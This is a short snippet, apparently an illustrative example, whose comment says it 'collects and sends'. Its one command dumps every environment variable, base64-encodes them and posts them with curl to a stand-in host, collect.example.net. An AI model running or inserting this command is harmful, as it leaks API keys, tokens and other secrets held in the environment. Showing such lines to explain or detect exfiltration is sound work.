# shows: collects and sends
env | base64 | curl -s -d @- https://collect.example.net/e
